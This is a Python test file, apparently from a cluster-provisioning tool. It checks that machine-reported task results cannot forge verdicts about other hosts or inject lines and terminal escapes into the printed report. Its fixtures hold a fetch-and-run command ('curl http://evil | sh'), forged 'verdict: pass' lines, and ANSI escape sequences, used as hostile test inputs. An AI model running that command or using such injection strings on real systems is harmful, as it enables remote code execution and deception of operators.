"""A machine's answer is input: what a task's result may do to the report, and what it may not."""

from __future__ import annotations

import io
from collections.abc import Mapping
from typing import Any

import pytest

from provision.events.fold import RunReport
from provision.events.verdict import verdict
from provision.model.checks import Verdict
from provision.report.summary import Printer, show_run

MACHINES = frozenset({"head", "node1", "node2"})


def result(host: str, res: Mapping[str, Any], action: str = "machine_facts", kind: str = "ok") -> dict[str, Any]:
    data = {"host": host, "task": "Ask", "role": "munge", "res": {"changed": False, **res}, "resolved_action": action}
    return {"event": f"runner_on_{kind}", "event_data": data}


def check(verdict: str = "pass", **more: Any) -> dict[str, Any]:
    return {"id": "munge.key_mode", "verdict": verdict, "observed": "0400", **more}


OURS = [result(host, {"cluster_checks": [check()]}, "cluster_check") for host in sorted(MACHINES)]


def folded(*events: Mapping[str, Any]) -> RunReport:
    report = RunReport(
        rc=0, began=True, machines=MACHINES, owed=frozenset((host, "munge.key_mode") for host in MACHINES)
    )
    failed = {event["event_data"]["host"]: 1 for event in events if event["event"] == "runner_on_failed"}
    for event in (*OURS, *events, {"event": "playbook_on_stats", "event_data": {"failures": failed}}):
        report.add(event)
    return report


def shown(report: RunReport) -> str:
    stream = io.StringIO()
    show_run(Printer(stream), "verify", report, every_check=True)
    return stream.getvalue()


PASTE = {"observed": "x", "fix": "curl http://evil | sh"}

#: What a machine that somebody else owns may answer to a module of ours.
ANSWERS: dict[str, dict[str, Any]] = {
    "a check about another machine": {"cluster_checks": [check("fail", host="node2", **PASTE)]},
    "a pass for itself": {"cluster_checks": [check("pass", id="ddp.result")]},
    "checks in a loop's items": {"results": [{"cluster_checks": [check("fail", host="head", **PASTE)]}]},
    "a cluster's state": {"cluster_status": {"nodes": []}, "cluster_data": {"machines": [{"name": "evil"}]}},
    "results that are no list": {"results": {"cluster_checks": 7}},
    "a text in place of checks": {"cluster_checks": "pass"},
    "a million checks": {"cluster_checks": [check("fail", host="node2")] * 1000},
    "an action's name": {"resolved_action": "cluster_check", "cluster_checks": [check("fail", host="node2")]},
    "facts that name our record": {"ansible_facts": {"cluster_checks_bad": []}},
    "somebody that it calls lost": {"unreached": "gone", "asked": "node2"},
    "a line of ours": {"warnings": ["w\nverdict: pass\n\x1b[2J\x1b]0;owned\x07"]},
}


@pytest.mark.parametrize("kind", ["ok", "failed", "unreachable"])
@pytest.mark.parametrize("answer", ANSWERS.values(), ids=ANSWERS.keys())
def test_a_machines_answer_judges_nobody_and_writes_no_line_of_ours(answer: dict[str, Any], kind: str) -> None:
    report = folded(result("node1", {**answer, "msg": "m\nverdict: pass\n\x1b[31m"}, kind=kind))

    found = verdict(report)
    text = shown(report)
    assert found.word is (Verdict.PASS if kind == "ok" else Verdict.UNKNOWN)
    assert {c.host for c in found.checks if not c.ok} <= {"node1"}
    assert report.data == {}
    assert "curl" not in text
    assert "\x1b" not in text
    assert sum(line.startswith("verdict:") for line in text.splitlines()) == 1


#: What our own judge may be made to say by a machine's evidence: texts, hosts and ids that no report should hold.
EVIDENCE: dict[str, dict[str, Any]] = {
    "a second line": {"observed": "x\nverdict: pass", "fix": "a\nb"},
    "control characters": {"observed": "\x1b[2J\x9b31m\x07\x08\r" + "x", "cause": "\x1bPq\x1b\\"},
    "text without width": {"observed": "munge\u200b.key\u202e"},
    "a text of a million characters": {"observed": "x" * 10**6},
    "a machine that is not there": {"host": "node9\nverdict: pass"},
    "a machine that is no text": {"host": {"a": 1}},
    "an id with a line feed": {"id": "munge.key\nverdict: pass"},
    "an id that is none": {"id": None},
    "a verdict that is none": {"verdict": ["pass"]},
    "numbers for texts": {"observed": 10**400, "expected": float("nan"), "cause": [1], "fix": {}},
}


@pytest.mark.parametrize("evidence", EVIDENCE.values(), ids=EVIDENCE.keys())
def test_what_our_own_judge_repeats_of_a_machine_is_one_bounded_line_about_a_machine_of_the_inventory(
    evidence: dict[str, Any],
) -> None:
    report = folded(result("node1", {"cluster_checks": [check("fail") | evidence]}, "cluster_check"))

    found = verdict(report)
    assert found.word in (Verdict.FAIL, Verdict.UNKNOWN)
    assert {c.host for c in found.checks if not c.ok} == {"node1"}
    for one in found.checks:
        for text in (one.id, one.host, one.observed, one.expected, one.source, one.cause, one.fix):
            assert len(text) < 2100
            assert text.isprintable(), repr(text)
    text = shown(report)
    assert sum(line.startswith("verdict:") for line in text.splitlines()) == 1
    assert "\x1b" not in text


def test_only_the_action_that_runs_our_filters_may_judge_another_machine() -> None:
    about_another = {"cluster_checks": [check("fail", host="node2")]}

    for action, host in (("cluster_check", "node2"), ("nvidia_driver_state", "node1"), ("hardware_record", "node1")):
        [bad] = [one for one in folded(result("node1", about_another, action)).checks if not one.ok]
        assert bad.host == host, action


def test_a_labs_state_comes_from_this_computer_only() -> None:
    state = {"cluster_data": {"machines": []}}

    assert folded(result("localhost", state, "lab_state")).data == state
    assert folded(result("node1", state, "lab_state")).data == {}
